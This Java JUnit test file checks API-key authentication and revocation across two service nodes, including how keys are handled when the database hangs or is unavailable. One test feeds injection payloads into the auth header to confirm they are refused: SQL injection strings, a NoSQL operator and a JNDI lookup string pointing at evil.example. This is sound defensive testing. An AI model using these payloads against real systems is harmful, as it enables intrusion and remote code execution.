package io.orchex.access;

import static io.orchex.access.Node.await;
import static io.orchex.access.Node.problem;
import static org.assertj.core.api.Assertions.assertThat;

import io.orchex.TestDatabase;
import io.orchex.access.AccessProtocol.CreatedKey;
import io.orchex.http.Principal;
import io.orchex.problem.Problem;
import io.orchex.problem.ProblemException;
import io.vertx.core.Future;
import io.vertx.core.Vertx;
import io.vertx.core.json.JsonObject;
import io.vertx.pgclient.PgBuilder;
import io.vertx.pgclient.PgConnectOptions;
import io.vertx.sqlclient.Pool;
import io.vertx.sqlclient.PoolOptions;
import io.vertx.sqlclient.SqlClient;
import io.vertx.sqlclient.SqlConnection;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** What two nodes believe of a key, and what they do when the database does not tell. */
final class RevocationTest {

    private static final Problem REFUSED = Problem.unauthenticated("Invalid API key");

    private static final Vertx VERTX = Vertx.vertx();

    private static TestDatabase database;
    private static Node here;
    private static Node there;
    private static Principal admin;

    @BeforeAll
    static void start() {
        database = TestDatabase.migrated();
        here = Node.start(database);
        there = Node.start(database);
        admin = here.authenticate(here.firstAdminKey());
    }

    @AfterAll
    static void stop() {
        here.close();
        there.close();
        await(VERTX.close());
    }

    @Test
    void a_key_revoked_on_one_node_is_refused_there_at_once_and_soon_on_the_other() {
        CreatedKey key = here.createKey(admin, key("traveller"));
        String token = here.issueToken(key.apiKey());
        here.authenticate(key.apiKey());
        there.authenticate(key.apiKey());
        there.authenticate(token);

        here.revoke(admin, key.keyId());

        assertThat(here.refusal(key.apiKey())).isEqualTo(REFUSED);
        assertThat(firstRefusal(there, key.apiKey())).isEqualTo(REFUSED);
        assertThat(there.refusal(token)).isEqualTo(Problem.unauthenticated("Invalid token"));
    }

    @Test
    void a_key_in_use_is_refused_by_the_first_round_that_does_not_confirm_it() {
        CreatedKey key = here.createKey(admin, key("in use"));
        String hash = KeyText.hash(key.apiKey());
        LiveKeys liveKeys = new LiveKeys(new AccessStore(here.pool));
        find(liveKeys, hash);
        await(here.pool
                .query("UPDATE api_key SET revoked_at = now() WHERE key_id = '%s'".formatted(key.keyId()))
                .execute());

        assertThat(find(liveKeys, hash)).as("believed until the round").isPresent();
        await(liveKeys.nextRound());

        assertThat(find(liveKeys, hash)).isEmpty();
    }

    @Test
    void a_confirmed_key_needs_no_database_until_the_next_round() {
        CreatedKey key = here.createKey(admin, key("busy"));
        String hash = KeyText.hash(key.apiKey());
        LiveKeys liveKeys = new LiveKeys(new AccessStore(here.pool));
        find(liveKeys, hash);
        await(liveKeys.nextRound());
        SqlConnection lock = await(here.pool.getConnection());
        await(lock.query("BEGIN; LOCK TABLE api_key").execute());

        Optional<ApiKey> found = find(liveKeys, hash);
        Future<?> round = liveKeys.nextRound();
        assertThat(problem(() -> await(round.compose(done -> liveKeys.find(hash), e -> liveKeys.find(hash))))
                        .status())
                .as("a round that could not ask forgets")
                .isEqualTo(503);
        await(lock.query("ROLLBACK").execute());
        await(lock.close());

        assertThat(found).isPresent();
    }

    @Test
    void a_key_that_nobody_used_for_a_round_is_asked_for_again() {
        CreatedKey key = here.createKey(admin, key("at rest"));
        String hash = KeyText.hash(key.apiKey());
        LiveKeys liveKeys = new LiveKeys(new AccessStore(here.pool));
        find(liveKeys, hash);
        await(liveKeys.nextRound());
        await(liveKeys.nextRound());
        await(here.pool
                .query("UPDATE api_key SET revoked_at = now() WHERE key_id = '%s'".formatted(key.keyId()))
                .execute());

        assertThat(find(liveKeys, hash)).isEmpty();
    }

    @Test
    void a_flood_of_unknown_keys_reaches_the_database_one_query_at_a_time() {
        SqlConnection lock = await(here.pool.getConnection());
        await(lock.query("BEGIN; LOCK TABLE api_key").execute());

        List<Future<Principal>> flood = IntStream.range(0, 2_000)
                .mapToObj(i -> there.authenticator.authenticate("a-key-that-nobody-made-%d".formatted(i)))
                .toList();
        long queries = waitingQueries(lock);
        await(lock.query("ROLLBACK").execute());
        await(lock.close());

        assertThat(queries).isEqualTo(1);
        assertThat(flood)
                .allSatisfy(each -> assertThat(problem(() -> await(each))).isEqualTo(REFUSED));
    }

    @Test
    void a_database_that_hangs_lets_nobody_in_and_says_when_to_come_back() {
        CreatedKey key = here.createKey(admin, key("patient"));
        SqlConnection lock = await(here.pool.getConnection());
        await(lock.query("BEGIN; LOCK TABLE api_key").execute());

        Problem problem = there.refusal(key.apiKey());
        await(lock.query("ROLLBACK").execute());
        await(lock.close());

        assertThat(problem.status()).isEqualTo(503);
        assertThat(problem.details()).containsKey(Problem.RETRY_AFTER);
        assertThat(firstAnswer(there, key.apiKey()).subject()).isEqualTo(key.keyId());
    }

    @Test
    void without_a_database_even_a_known_key_is_soon_not_believed_and_works_again_after() {
        TestDatabase own = TestDatabase.migrated();
        try (Node node = Node.start(own)) {
            String key = node.firstAdminKey();
            node.authenticate(key);
            Pool elsewhere = elsewhere();
            String name = own.url().substring(own.url().lastIndexOf('/') + 1);

            await(elsewhere
                    .query("ALTER DATABASE %s ALLOW_CONNECTIONS false".formatted(name))
                    .execute());
            await(elsewhere
                    .query("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = '%s'"
                            .formatted(name))
                    .execute());

            assertThat(firstRefusal(node, key).code()).isEqualTo("SERVICE_UNAVAILABLE");
            assertThat(node.refusal("a-key-that-nobody-made-at-all").code()).isEqualTo("SERVICE_UNAVAILABLE");
            assertThat(node.refusal("orx_live_without_its_check").code()).isEqualTo("AUTHENTICATION_ERROR");
            await(elsewhere
                    .query("ALTER DATABASE %s ALLOW_CONNECTIONS true".formatted(name))
                    .execute());
            assertThat(firstAnswer(node, key).role()).isEqualTo("admin");
        }
    }

    @Test
    void whatever_stands_in_the_header_gets_one_answer() {
        List<String> headers = List.of(
                "",
                " ",
                "'",
                "' OR '1'='1",
                "orx_live_' OR 1=1 --",
                "\0",
                "orx_live_\0",
                "orx_live_" + "\0".repeat(49),
                "orx_live_" + "A".repeat(49),
                "orx_live_" + "A".repeat(100_000),
                "A".repeat(100_000),
                "ключ".repeat(20),
                "%00%27",
                "\n\r\n",
                "{\"$ne\":null}",
                "${jndi:ldap://evil.example/a}",
                "\uD800",
                "null",
                "undefined",
                "key_00000000000000000000000000",
                admin.subject(),
                KeyText.hash("x"),
                "orx_test_" + "A".repeat(49),
                "Bearer " + "A".repeat(40),
                "-".repeat(24),
                "_".repeat(128),
                "A".repeat(129));

        assertThat(headers).allSatisfy(text -> assertThat(here.refusal(text))
                .isEqualTo(text.contains(".") ? Problem.unauthenticated("Invalid token") : REFUSED));
    }

    @Test
    void a_typing_error_is_known_without_the_database() {
        String key = here.createKey(admin, key("typed")).apiKey();
        char last = key.charAt(key.length() - 1);
        String typo = key.substring(0, key.length() - 1) + (last == 'A' ? 'B' : 'A');
        String swapped = key.substring(0, 20) + key.charAt(21) + key.charAt(20) + key.substring(22);

        assertThat(KeyText.of(key)).isPresent();
        assertThat(KeyText.of(typo)).isEmpty();
        assertThat(KeyText.of(swapped).isPresent()).isEqualTo(swapped.equals(key));
    }

    private static Optional<ApiKey> find(LiveKeys liveKeys, String reference) {
        return await(liveKeys.find(reference));
    }

    private static Problem firstRefusal(Node node, String token) {
        Optional<Problem> refusal = Optional.empty();
        while (refusal.isEmpty()) {
            refusal = answer(node, token);
        }
        return refusal.get();
    }

    private static Principal firstAnswer(Node node, String token) {
        while (answer(node, token).isPresent()) {
            await(VERTX.timer(20, TimeUnit.MILLISECONDS));
        }
        return node.authenticate(token);
    }

    private static Optional<Problem> answer(Node node, String token) {
        try {
            node.authenticate(token);
            return Optional.empty();
        } catch (ProblemException refused) {
            return Optional.of(refused.problem());
        }
    }

    private static long waitingQueries(SqlClient client) {
        long waiting = 0;
        while (waiting == 0) {
            waiting = await(client.query(
                                    "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND wait_event_type = 'Lock'")
                            .execute())
                    .iterator()
                    .next()
                    .getLong(0);
        }
        return waiting;
    }

    private static JsonObject key(String name) {
        return new JsonObject().put("name", name).put("role", "user");
    }

    private static Pool elsewhere() {
        return PgBuilder.pool()
                .connectingTo(PgConnectOptions.fromUri(database.url()).setDatabase("postgres"))
                .with(new PoolOptions().setMaxSize(1))
                .using(VERTX)
                .build();
    }
}
